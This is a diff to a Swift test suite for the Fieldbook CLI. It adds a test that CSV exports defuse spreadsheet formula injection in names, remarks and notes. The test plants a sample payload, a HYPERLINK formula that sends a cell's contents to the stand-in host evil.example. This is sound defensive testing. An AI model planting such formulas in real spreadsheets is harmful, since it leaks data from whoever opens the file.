@@ -1,3 +1,4 @@
+import Fieldbook
 import FieldbookTestSupport
 import Foundation
 import Testing
@@ -40,7 +41,7 @@ struct ExportAndReportTests {
         #expect(!text.replacingOccurrences(of: "\r\n", with: "").contains("\n"))
         #expect(
             lines[0]
-                == "programme,cohort_id,cohort,event_id,event,kind,starts,zone,venue,venue_city,participant_id,participant,trn,school,city,status,remark"
+                == "programme,cohort_id,cohort,event_id,event,kind,starts,zone,venue,venue_city,participant_id,participant,trn,school,city,status,remark,open_conflict"
         )
         // 4 participants × 3 events (the future one too: its marks are yet to come).
         #expect(lines.count - 2 == 12)
@@ -48,7 +49,7 @@ struct ExportAndReportTests {
             lines.contains {
                 $0.contains(
                     ",Module 1,face-to-face,2024-03-02T09:00,Asia/Shanghai,Shanghai Pudong Bilingual School,Shanghai,")
-                    && $0.hasSuffix(",Chen Jie,,SPBS,,unmarked,")
+                    && $0.hasSuffix(",Chen Jie,,SPBS,,unmarked,,")
             })
         #expect(lines.contains { $0.contains(",李伟,1234567,SPBS,,excused,school inspection") })
 
@@ -136,5 +137,51 @@ struct ExportAndReportTests {
         let csv = try cli.ok("report", "missed", "Module 1", "--format", "csv", "--plain")
         #expect(csv.split(separator: "\n").count == 3)
         #expect(csv.hasPrefix("participant_id,participant,trn,school,city,email,status,remark\n"))
+    }
+
+    /// A name that is a spreadsheet formula must stay text in every CSV the CLI writes
+    /// for Excel (OWASP's CSV-injection rule), and come out exactly with --plain.
+    @Test func formulasInNamesAndRemarksAreDefusedInEveryCSV() throws {
+        let day = try FieldDay()
+        let cli = day.cli
+        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+        try cli.ok("participant", "add", "--cohort", "NPQH Spring 2024", "--name", formula, "--school", "@school")
+        try cli.ok("attend", day.module1, "--all", "absent")
+        try cli.ok("attend", day.module1, "1234567", "late", "--remark=-5 minutes, +traffic")
+        try cli.ok("note", "add", "--event", day.module1, "=1+1 was on the board")
+        let quoted = "\"'" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+        for arguments in [
+            ["export", "attendance"], ["export", "notes"], ["report", "attendance", "--format", "csv"],
+            ["report", "missed", day.module1, "--format", "csv"],
+        ] {
+            let result = try cli.run(arguments)
+            #expect(result.exitCode == 0, "\(arguments): \(result)")
+            let records = try CSVReader.records(result.stdout).map(\.fields)
+            let fields = records.dropFirst().flatMap { $0 }
+            // No field a spreadsheet would run: each starts with none of = + - @ tab CR,
+            // unless it is a number.
+            for field in fields {
+                if let first = field.first, "=+-@\t\r".contains(first) {
+                    #expect(Double(field) != nil, "\(arguments): a live formula \(field.debugDescription)")
+                }
+            }
+            if arguments[0] == "export" && arguments[1] == "notes" {
+                #expect(fields.contains("'=1+1 was on the board"), "\(arguments)")
+            } else {
+                #expect(result.stdout.contains(quoted), "\(arguments): \(result.stdout)")
+                #expect(fields.contains("'@school"), "\(arguments)")
+            }
+            if arguments == ["export", "attendance"] {
+                #expect(fields.contains("'-5 minutes, +traffic"))
+            }
+            // --plain: for scripts, the values exactly as typed.
+            let plain = try cli.run(arguments + ["--plain"])
+            let plainFields = try CSVReader.records(plain.stdout).map(\.fields).dropFirst().flatMap { $0 }
+            if arguments[1] == "notes" {
+                #expect(plainFields.contains("=1+1 was on the board"))
+            } else {
+                #expect(plainFields.contains(formula), "\(arguments): \(plain.stdout)")
+            }
+        }
     }
 }
